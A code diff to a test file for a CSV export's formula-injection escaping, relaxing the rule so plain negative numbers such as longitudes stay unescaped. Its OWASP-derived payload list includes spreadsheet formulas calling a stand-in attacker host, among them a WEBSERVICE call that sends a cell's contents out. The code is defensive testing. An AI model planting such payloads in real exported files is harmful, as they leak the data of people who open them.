@@ -5,8 +5,9 @@ import { cellText } from '../../renderer/src/export/location-cells.js';
 import { EXPORT_COLUMNS, formulaSafe, locationsCsv } from '../../renderer/src/export/locations-csv.js';
 import { buildTestApp, type TestApp } from '../helpers/app.js';
 
-// What a spreadsheet runs as a formula: the cell's first character after the whitespace it skips.
-const RUNS_AS_FORMULA = /^\s*[=+\-@\t\r]/;
+// What a spreadsheet runs as a formula: the cell's first character after the whitespace it skips; a
+// negative number is read as the number it is.
+const RUNS_AS_FORMULA = /^(?!-\d+(\.\d+)?$)\s*[=+\-@\t\r]/;
 
 // OWASP, "CSV Injection" (its examples and payloads), and the usual DDE and web-request variants.
 const OWASP = [
@@ -26,7 +27,6 @@ const OWASP = [
   `=IMAGE("http://evil.example/pixel.png")`,
   `=WEBSERVICE("http://evil.example/?"&A1)`,
   `=1+1`,
-  `-1`,
   `+1`,
   `@`,
   `=`,
@@ -70,9 +70,14 @@ describe('formulaSafe', () => {
     },
   );
 
-  it('numbers written as text: a negative one is escaped (the import undoes it)', () => {
+  it('numbers written as text: a negative one is left as it is (Excel reads it as the number; a walk saw the apostrophe in every longitude)', () => {
     expect(formulaSafe('100')).toBe('100');
-    expect(formulaSafe('-89.65')).toBe("'-89.65");
+    expect(formulaSafe('-89.65')).toBe('-89.65');
+    expect(formulaSafe('-1')).toBe('-1');
+    // Anything after the number makes it a formula again.
+    expect(formulaSafe('-1+1')).toBe("'-1+1");
+    expect(formulaSafe('-1 ')).toBe("'-1 ");
+    expect(formulaSafe('-1e5')).toBe("'-1e5");
   });
 });
 
